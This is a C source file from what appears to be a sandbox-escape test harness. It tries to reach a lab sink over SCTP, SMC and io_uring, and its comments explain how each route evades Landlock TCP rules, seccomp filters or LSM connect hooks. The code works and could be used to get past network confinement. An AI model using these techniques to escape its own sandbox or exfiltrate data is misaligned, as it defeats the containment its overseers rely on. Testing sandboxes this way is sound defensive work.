/* tcp_exotic.c - B1 stream transports Landlock's TCP rights do not cover
 * (SCTP, SMC) and the io_uring entry point seccomp cannot see. */
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <liburing.h>

#include "attack.h"
#include "tcp_int.h"

#define DIAL_TIMEOUT_MS 2000

/* SCTP uapi values (linux/sctp.h; <netinet/sctp.h> is lksctp-tools'). */
#define SOL_SCTP_ 132
#define SCTP_EVENTS_ 11		   /* struct sctp_event_subscribe, byte per event */
#define SCTP_SOCKOPT_CONNECTX_ 110 /* returns the association id */
#define SCTP_ASSOC_CHANGE_ 0x8001
#define SCTP_COMM_UP_ 0
#ifndef MSG_NOTIFICATION
#define MSG_NOTIFICATION 0x8000
#endif
/* The lab's SCTP sinks listen (SOCK_STREAM) on these. */
#define SCTP_SINK_PORT_STREAM 80
#define SCTP_SINK_PORT_SEQPACKET 9999

/* Bounded close: with SO_LINGER, an SCTP close waits (at most l_linger)
 * for the graceful SHUTDOWN, so queued DATA leaves before we exit. */
static void sctp_close_lingering(struct attack_log *log, int fd)
{
	struct linger l = {.l_onoff = 1, .l_linger = 1};
	int r = setsockopt(fd, SOL_SOCKET, SO_LINGER, &l, sizeof(l));
	int err = errno;
	attack_step(log, "setsockopt", r, err, "SO_LINGER = {1, 1 s}");
	r = close(fd);
	err = errno;
	attack_step(log, "close", r, err, "graceful SCTP shutdown");
}

/* ---- T08: SCTP ---- */

int t08_sctp_stream(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_storage ss;
	socklen_t len = tcp_sockaddr(log, env->sink_v4, SCTP_SINK_PORT_STREAM, &ss);
	int fd, claim;

	if (!len)
		return CLAIM_UNSURE;
	fd = tcp_socket(log, AF_INET, SOCK_STREAM, IPPROTO_SCTP);
	if (fd < 0)
		return CLAIM_BLOCKED;
	if (tcp_connect(log, fd, (struct sockaddr *)&ss, len, DIAL_TIMEOUT_MS) < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	claim = tcp_send_marker(env, log, fd, "T08.stream");
	sctp_close_lingering(log, fd);
	return claim;
}

/* Wait for SCTP_COMM_UP on a socket subscribed to association events. */
static bool sctp_wait_comm_up(struct attack_log *log, int fd)
{
	unsigned char buf[512];
	struct iovec iov = {.iov_base = buf, .iov_len = sizeof(buf)};
	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1};
	ssize_t n;
	int err;

	tcp_set_timeout(log, fd, SO_RCVTIMEO, DIAL_TIMEOUT_MS);
	n = recvmsg(fd, &mh, 0);
	err = errno;
	if (n >= 6 && (mh.msg_flags & MSG_NOTIFICATION)) {
		/* struct sctp_assoc_change: u16 type, u16 flags, u32 length,
		 * u16 state, ... */
		unsigned type = (unsigned)buf[0] | (unsigned)buf[1] << 8;
		unsigned state = (unsigned)buf[8] | (unsigned)buf[9] << 8;
		attack_step(
		    log, "recvmsg", n, err, "notification type 0x%x state %u%s", type, state,
		    type == SCTP_ASSOC_CHANGE_ && state == SCTP_COMM_UP_ ? " (COMM_UP)" : "");
		return type == SCTP_ASSOC_CHANGE_ && state == SCTP_COMM_UP_;
	}
	attack_step(log, "recvmsg", n, err, "waiting for the association");
	return false;
}

/* One-to-many: no connect() at all; sendto() to a new peer sets up the
 * association implicitly, and SOCK_SEQPACKET passes a SOCK_DGRAM-only
 * seccomp rule. */
int t08_sctp_seqpacket(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_storage ss;
	socklen_t len = tcp_sockaddr(log, env->sink_v4, SCTP_SINK_PORT_SEQPACKET, &ss);
	unsigned char events[2] = {0, 1}; /* data_io off, association on */
	char buf[256], to[80];
	long r;
	int fd, n, err;

	if (!len)
		return CLAIM_UNSURE;
	fd = tcp_socket(log, AF_INET, SOCK_SEQPACKET, IPPROTO_SCTP);
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = setsockopt(fd, SOL_SCTP_, SCTP_EVENTS_, events, sizeof(events));
	err = errno;
	attack_step(log, "setsockopt", r, err, "SCTP_EVENTS association on");
	tcp_set_timeout(log, fd, SO_SNDTIMEO, DIAL_TIMEOUT_MS);
	n = attack_marker_payload(env, "T08.seqpacket", buf, sizeof(buf));
	r = sendto(fd, buf, (size_t)n, MSG_NOSIGNAL, (struct sockaddr *)&ss, len);
	err = errno;
	attack_step(log, "sendto", r, err, "marker (%d bytes) to %s, implicit association", n,
		    tcp_addr_str((struct sockaddr *)&ss, to, sizeof(to)));
	if (r < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	r = sctp_wait_comm_up(log, fd);
	sctp_close_lingering(log, fd);
	return r ? CLAIM_ESCAPED : CLAIM_UNSURE;
}

/* The association comes from setsockopt(SCTP_SOCKOPT_CONNECTX), not
 * connect(): no socket_connect hook runs, and a seccomp notifier watching
 * connect() sees nothing; the marker then goes out with a plain send(),
 * which names no destination (landlock#40). */
int t08_sctp_connectx(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_storage ss;
	socklen_t len = tcp_sockaddr(log, env->sink_v4, SCTP_SINK_PORT_STREAM, &ss);
	char to[80];
	int fd, r, err, claim;

	if (!len)
		return CLAIM_UNSURE;
	fd = tcp_socket(log, AF_INET, SOCK_STREAM, IPPROTO_SCTP);
	if (fd < 0)
		return CLAIM_BLOCKED;
	/* CONNECTX waits for the association up to SO_SNDTIMEO. */
	tcp_set_timeout(log, fd, SO_SNDTIMEO, DIAL_TIMEOUT_MS);
	r = setsockopt(fd, SOL_SCTP_, SCTP_SOCKOPT_CONNECTX_, &ss, len);
	err = errno;
	attack_step(log, "setsockopt", r, err, "SCTP_SOCKOPT_CONNECTX %s%s",
		    tcp_addr_str((struct sockaddr *)&ss, to, sizeof(to)),
		    r > 0 ? ": association id returned" : "");
	if (r < 0) {
		close(fd);
		return err == EINPROGRESS ? CLAIM_UNSURE : CLAIM_BLOCKED;
	}
	claim = tcp_send_marker(env, log, fd, "T08.connectx");
	sctp_close_lingering(log, fd);
	return claim;
}

/* ---- T09: SMC ---- */

/* SMC dials its peer through an internal TCP "clcsock" (kernel_connect,
 * no LSM hook) and falls back to that TCP connection when the peer has no
 * SMC: the wire is plain TCP, the socket the agent holds is not sk_is_tcp.
 * The address is an ordinary sockaddr_in. */
static int smc_dial(const struct attack_env *env, struct attack_log *log, int family, int protocol,
		    const char *label)
{
	struct sockaddr_storage ss;
	socklen_t len = tcp_sockaddr(log, env->sink_v4, 443, &ss);
	if (!len)
		return CLAIM_UNSURE;
	return tcp_dial_marker(env, log, family, SOCK_STREAM, protocol, (struct sockaddr *)&ss, len,
			       label);
}

int t09_af_smc(const struct attack_env *env, struct attack_log *log)
{
	return smc_dial(env, log, AF_SMC, 0 /* SMCPROTO_SMC */, "T09.af-smc");
}

int t09_ipproto_smc(const struct attack_env *env, struct attack_log *log)
{
	return smc_dial(env, log, AF_INET, IPPROTO_SMC, "T09.ipproto");
}

/* ---- T10: io_uring ---- */

/* Submit the one prepared SQE and wait (bounded) for its completion.
 * Returns the CQE's res, or -ETIME / the submission error. */
static int uring_one(struct io_uring *ring, struct attack_log *log, const char *op,
		     const char *detail)
{
	struct __kernel_timespec ts = {.tv_sec = DIAL_TIMEOUT_MS / 1000};
	struct io_uring_cqe *cqe;
	int r = io_uring_submit(ring);

	if (r < 0) {
		attack_step(log, "io_uring_enter", -1, -r, "submit %s", op);
		return r;
	}
	r = io_uring_wait_cqe_timeout(ring, &cqe, &ts);
	if (r < 0) {
		attack_step(log, op, -1, -r, "%s: no completion", detail);
		return r;
	}
	r = cqe->res;
	io_uring_cqe_seen(ring, cqe);
	attack_step(log, op, r < 0 ? -1 : r, -r, "%s", detail);
	return r;
}

/* Socket, connect and send as io_uring operations: no socket(),
 * connect() or sendto() syscall for seccomp to match; LSM hooks still run
 * on IORING_OP_CONNECT. */
int t10_io_uring(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_storage ss;
	socklen_t len = tcp_sockaddr(log, env->sink_v4, 443, &ss);
	struct io_uring ring;
	char buf[256], to[80];
	int r, fd, n;

	if (!len)
		return CLAIM_UNSURE;
	r = io_uring_queue_init(4, &ring, 0);
	attack_step(log, "io_uring_setup", r < 0 ? -1 : 0, -r, "4 entries");
	if (r < 0)
		return CLAIM_BLOCKED;
	io_uring_prep_socket(io_uring_get_sqe(&ring), AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0, 0);
	fd = uring_one(&ring, log, "IORING_OP_SOCKET", "AF_INET, SOCK_STREAM, 0");
	if (fd < 0) {
		io_uring_queue_exit(&ring);
		return CLAIM_BLOCKED;
	}
	io_uring_prep_connect(io_uring_get_sqe(&ring), fd, (struct sockaddr *)&ss, len);
	r = uring_one(&ring, log, "IORING_OP_CONNECT",
		      tcp_addr_str((struct sockaddr *)&ss, to, sizeof(to)));
	if (r < 0) {
		io_uring_queue_exit(&ring);
		close(fd);
		return r == -ETIME ? CLAIM_UNSURE : CLAIM_BLOCKED;
	}
	n = attack_marker_payload(env, "T10", buf, sizeof(buf));
	io_uring_prep_send(io_uring_get_sqe(&ring), fd, buf, (size_t)n, MSG_NOSIGNAL);
	r = uring_one(&ring, log, "IORING_OP_SEND", "marker");
	io_uring_queue_exit(&ring);
	close(fd);
	return r > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}
